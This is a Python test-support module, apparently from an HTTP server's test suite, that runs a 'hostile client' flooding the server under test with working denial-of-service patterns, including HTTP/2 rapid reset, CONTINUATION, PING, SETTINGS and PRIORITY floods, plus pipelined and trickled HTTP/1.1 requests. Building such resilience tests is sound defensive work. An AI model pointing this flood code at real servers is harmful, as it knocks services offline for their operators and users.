"""A hostile client, in a process of its own: one that costs the server more than itself.

``python -m tests.support.hostile FILE`` does for some seconds what the file says, and prints as
JSON what became of it. Where the server closes its connection it makes another one.
"""

import json
import re
import select
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import asdict, dataclass, field
from itertools import cycle
from pathlib import Path
from types import TracebackType
from typing import Any, Final, Self

from tests.support.http1 import Address
from tests.support.http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    DEFAULT_WINDOW,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADER_TABLE_SIZE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Encoder,
    frame,
    literals,
    request,
    setting,
    status,
)
from tests.support.processes import Child

# As many streams as Envoy lets one connection have (max_concurrent_streams).
STREAMS: Final = 100
_CONNECTIONS: Final = 50  # of the kind that holds many and sends little
_RECONNECTS: Final = 100
_FRAMES: Final = 100  # that are sent at once, where a frame is all there is

Fields = Sequence[tuple[str, str]]


@dataclass(frozen=True, slots=True)
class Attack:
    """What the hostile client does: ``way`` names one of ``WAYS``.

    Its requests have the fields ``repeated``, which cost it a byte each from the second one on, and
    in turn one of the lists of ``fresh`` ones. ``per_second`` counts requests, or bursts of frames.
    """

    way: str
    repeated: Fields = ()
    fresh: Sequence[Fields] = ((),)
    per_second: int = 1000


@dataclass(frozen=True, slots=True)
class Report:
    """What became of it: how often each status was answered, how often it had to reconnect."""

    statuses: dict[str, int]
    sent: int
    closed: int


class Hostile:
    """A hostile client for the length of a ``with`` block, or as many ``seconds``."""

    def __init__(
        self,
        attack: Attack,
        address: Address,
        host: str,
        directory: Path,
        *,
        seconds: float,
        tls: bool = False,
    ) -> None:
        folder = directory / "hostile"
        folder.mkdir()
        orders = folder / "attack.json"
        document = {"address": address, "host": host, "tls": tls, "seconds": seconds}
        orders.write_text(json.dumps({**document, "attack": asdict(attack)}))
        self._process = Child([sys.executable, "-m", "tests.support.hostile", str(orders)], folder)

    def __enter__(self) -> Self:
        self._process.wait_until(lambda: bool(self._process.stdout()))
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self._process.stop()

    def report(self) -> Report:
        """Wait for its end."""
        assert self._process.wait(within=20.0) == 0, self._process.stderr()
        return Report(**json.loads(self._process.stdout()[-1]))


@dataclass
class _Target:
    """Whom to attack, until when (on the monotonic clock), and an account of it."""

    address: Address
    host: str
    context: ssl.SSLContext | None
    until: float
    statuses: Counter[str] = field(default_factory=Counter)
    sent: int = 0

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def connect(self) -> socket.socket:
        """A new connection."""
        plain = socket.create_connection(self.address, 5.0)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return self.context.wrap_socket(plain, server_hostname=self.host) if self.context else plain

    def paced(self, per_second: int) -> Iterator[float]:
        """Yield how many seconds the next turn is away, 0 when it is time: that begins the next."""
        began, turn = time.monotonic(), 0
        while self.goes_on:
            away = began + turn / per_second - time.monotonic()
            if away <= 0:
                turn += 1
            yield max(0.0, away)


class _Http2:
    """A connection that keeps to the protocol, as far as it goes."""

    def __init__(self, target: _Target, *, window: int = LARGEST_WINDOW) -> None:
        self.encoder = Encoder()
        self.streams: set[int] = set()
        self._target = target
        self._socket = target.connect()
        self._unread = b""
        self._next_stream = 1
        settings = setting(HEADER_TABLE_SIZE, 0) + setting(INITIAL_WINDOW_SIZE, window)
        more = struct.pack(">I", LARGEST_WINDOW - DEFAULT_WINDOW)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW_UPDATE, 0, 0, more))

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def send(self, data: bytes) -> None:
        self._socket.sendall(data)

    def new_stream(self) -> int:
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        return stream

    def receive(self, patience: float) -> None:
        """Read what is there, or comes within ``patience`` seconds."""
        data = _received(self._socket, patience)
        if data is None:
            return
        data = self._unread + data
        at = 0
        while len(data) - at >= 9:
            end = at + 9 + int.from_bytes(data[at : at + 3])
            if end > len(data):
                break
            stream = int.from_bytes(data[at + 5 : at + 9])
            self._frame(data[at + 3], data[at + 4], stream, data[at + 9 : end])
            at = end
        self._unread = data[at:]

    def _frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            raise ConnectionResetError("the server sent GOAWAY")
        elif kind == HEADERS and stream in self.streams:
            self._target.statuses[str(status(payload))] += 1
        if kind == RST_STREAM or (kind in {DATA, HEADERS} and flags & END_STREAM):
            self.streams.discard(stream)


def _received(connection: socket.socket, patience: float) -> bytes | None:
    """What is there, or comes within so many seconds; None for nothing."""
    pending = isinstance(connection, ssl.SSLSocket) and connection.pending()
    if not pending and not select.select([connection], [], [], patience)[0]:
        return None
    data = connection.recv(262_144)
    if not data:
        raise ConnectionResetError("the server closed the connection")
    return data


def _request_blocks(target: _Target, attack: Attack, encoder: Encoder) -> Iterator[bytes]:
    """The header blocks of one connection's requests."""
    pseudo = (
        *((":method", "GET"), (":scheme", "https" if target.context else "http")),
        *((":authority", target.host), (":path", "/orders/1")),
    )
    given = {name for name, _ in (*attack.repeated, *attack.fresh[0]) if name.startswith(":")}
    repeated = [entry for entry in pseudo if entry[0] not in given] + list(attack.repeated)
    # Pseudo-headers come first (RFC 9113 §8.3).
    repeated.sort(key=lambda entry: not entry[0].startswith(":"))
    for fresh in cycle(attack.fresh):
        first = [entry for entry in fresh if entry[0].startswith(":")]
        rest = [entry for entry in fresh if not entry[0].startswith(":")]
        yield literals(first) + encoder.indexed(repeated) + literals(rest)


def _requests(target: _Target, attack: Attack) -> None:
    """As many requests at once as a connection may have, at the attack's rate."""
    with _Http2(target) as connection:
        blocks = _request_blocks(target, attack, connection.encoder)
        for away in target.paced(attack.per_second):
            while len(connection.streams) >= STREAMS and target.goes_on:
                connection.receive(0.05)
            if not away:
                stream = connection.new_stream()
                connection.streams.add(stream)
                connection.send(request(stream, next(blocks)))
                target.sent += 1
            connection.receive(away)


def _resets(target: _Target, attack: Attack) -> None:
    """Requests that are given up as soon as they are sent (CVE-2023-44487), ten at a time."""
    with _Http2(target) as connection:
        blocks = _request_blocks(target, attack, connection.encoder)
        for away in target.paced(attack.per_second):
            if not away:
                burst = b""
                for _ in range(10):
                    stream = connection.new_stream()
                    burst += request(stream, next(blocks))
                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                connection.send(burst)
                target.sent += 10
            connection.receive(away)


def _unread_answers(target: _Target, attack: Attack) -> None:
    """Requests whose answers have no window to be sent in."""
    with _Http2(target, window=0) as connection:
        blocks = _request_blocks(target, attack, connection.encoder)
        for away in target.paced(attack.per_second):
            if not away and len(connection.streams) < STREAMS:
                stream = connection.new_stream()
                connection.streams.add(stream)
                connection.send(request(stream, next(blocks)))
                target.sent += 1
            connection.receive(away)


def _frames(
    burst: Callable[[_Http2, bytes], Iterable[bytes]], *, read: bool = True
) -> Callable[[_Target, Attack], None]:
    """Frames without an end on a connection that has sent one request."""

    def flood(target: _Target, attack: Attack) -> None:
        with _Http2(target) as connection:
            block = next(_request_blocks(target, attack, connection.encoder))
            frames = iter(burst(connection, block))
            for away in target.paced(attack.per_second):
                if not away:
                    connection.send(b"".join(next(frames) for _ in range(_FRAMES)))
                    target.sent += _FRAMES
                if read:
                    connection.receive(away)
                else:
                    time.sleep(away)

    return flood


def _continuations(connection: _Http2, block: bytes) -> Iterator[bytes]:
    """A head that does not end (CVE-2024-27919)."""
    stream = connection.new_stream()
    yield frame(HEADERS, END_STREAM, stream, block)
    while True:
        yield frame(CONTINUATION, 0, stream)


def _pings(_: _Http2, __: bytes) -> Iterator[bytes]:
    """Each asks for an answer (CVE-2019-9512)."""
    return cycle([frame(PING, 0, 0, bytes(8))])


def _settings(_: _Http2, __: bytes) -> Iterator[bytes]:
    """Each is acknowledged (CVE-2019-9515)."""
    return cycle([frame(SETTINGS, 0, 0)])


def _priorities(connection: _Http2, _: bytes) -> Iterator[bytes]:
    """CVE-2019-9513."""
    return cycle([frame(PRIORITY, 0, connection.new_stream(), struct.pack(">IB", 0, 15))])


def _window_updates(_: _Http2, __: bytes) -> Iterator[bytes]:
    # The connection's window is as large as it gets, but for what is sent meanwhile: of a stream.
    return cycle([frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))])


def _empty_data(connection: _Http2, block: bytes) -> Iterator[bytes]:
    """A body of nothing, without an end (CVE-2019-9518)."""
    stream = connection.new_stream()
    yield frame(HEADERS, END_HEADERS, stream, block)
    while True:
        yield frame(DATA, 0, stream)


_STATUS_LINE: Final = re.compile(rb"HTTP/1\.1 (\d{3}) ")


def _http1_head(target: _Target, fields: Fields) -> bytes:
    path = next((value for name, value in fields if name == ":path"), "/orders/1")
    lines = [f"GET {path} HTTP/1.1", f"host: {target.host}"]
    lines += [f"{name}: {value}" for name, value in fields if not name.startswith(":")]
    return "\r\n".join([*lines, "", ""]).encode()


def _pipelined(target: _Target, attack: Attack) -> None:
    """Requests of HTTP/1.1 that do not wait for answers, ten at a time."""
    heads = cycle([_http1_head(target, [*attack.repeated, *fresh]) for fresh in attack.fresh])
    with target.connect() as connection:
        waiting = 0
        for away in target.paced(max(1, attack.per_second // 10)):
            if not away and waiting < STREAMS:
                connection.sendall(b"".join(next(heads) for _ in range(10)))
                target.sent += 10
                waiting += 10
            answers = _STATUS_LINE.findall(_received(connection, away) or b"")
            target.statuses.update(answer.decode() for answer in answers)
            waiting -= len(answers)


def _pipelined_unread(target: _Target, attack: Attack) -> None:
    """Requests of HTTP/1.1 whose answers stay in the socket, until no more can be sent."""
    head = _http1_head(target, [*attack.repeated, *attack.fresh[0]])
    with target.connect() as connection:
        connection.settimeout(0.1)
        for away in target.paced(attack.per_second):
            try:
                connection.sendall(head)
                target.sent += 1
            except TimeoutError:
                # It is full. What was cut off would end the connection.
                time.sleep(max(0.0, target.until - time.monotonic()))
            time.sleep(away)


def _trickled(target: _Target, attack: Attack) -> None:
    """Heads of HTTP/1.1 that come a byte at a time, on many connections."""
    head = _http1_head(target, [*attack.repeated, *attack.fresh[0]])
    connections = [target.connect() for _ in range(_CONNECTIONS)]
    try:
        for byte in head:
            for connection in connections:
                connection.sendall(bytes([byte]))
                target.sent += 1
            if not target.goes_on:
                return
            time.sleep(0.02)
    finally:
        for connection in connections:
            connection.close()


WAYS: Final[dict[str, Callable[[_Target, Attack], None]]] = {
    "requests": _requests,
    "resets": _resets,
    "unread answers": _unread_answers,
    "continuations": _frames(_continuations),
    "pings": _frames(_pings),
    "unread pings": _frames(_pings, read=False),
    "settings": _frames(_settings),
    "priorities": _frames(_priorities),
    "window updates": _frames(_window_updates),
    "empty data": _frames(_empty_data),
    "pipelined": _pipelined,
    "pipelined, unread": _pipelined_unread,
    "trickled": _trickled,
}


def _read(document: dict[str, Any]) -> Attack:
    fresh = [_fields(each) for each in document["fresh"]]
    return Attack(**{**document, "repeated": _fields(document["repeated"]), "fresh": fresh})


def _fields(document: list[list[str]]) -> Fields:
    return [(name, value) for name, value in document]


def main() -> None:
    """Be the hostile client."""
    orders: dict[str, Any] = json.loads(Path(sys.argv[1]).read_text())
    attack = _read(orders["attack"])
    way = WAYS[attack.way]
    context = None
    if orders["tls"]:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["http/1.1" if way in _HTTP1 else "h2"])
    print("begun", flush=True)
    until = time.monotonic() + orders["seconds"]
    target = _Target(tuple(orders["address"]), orders["host"], context, until)
    closed = 0
    while target.goes_on and closed <= _RECONNECTS:
        try:
            way(target, attack)
        except OSError:
            closed += 1
    print(json.dumps(asdict(Report(dict(target.statuses), target.sent, closed))), flush=True)


_HTTP1: Final = {_pipelined, _pipelined_unread, _trickled}


if __name__ == "__main__":
    main()
